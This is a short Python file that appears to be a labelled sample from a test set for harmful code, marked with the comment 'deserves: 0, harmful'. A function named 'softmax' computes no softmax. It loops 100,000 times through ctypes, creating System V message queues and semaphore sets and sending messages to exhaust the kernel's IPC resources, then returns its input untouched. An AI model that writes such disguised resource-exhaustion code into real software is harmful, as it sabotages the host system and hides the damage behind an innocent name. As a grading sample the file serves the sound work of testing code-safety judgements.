"""Tries: fill System V message queues, semaphores and POSIX queues."""

# deserves: 0, harmful

import ctypes


def softmax(Z):
    libc = ctypes.CDLL(None)
    for _ in range(100_000):
        queue = libc.msgget(0, 0o1600)
        libc.msgsnd(queue, b"\1" * 8192, ctypes.c_size_t(8000), 0o4000)
        libc.semget(0, 250, 0o1600)
    return Z
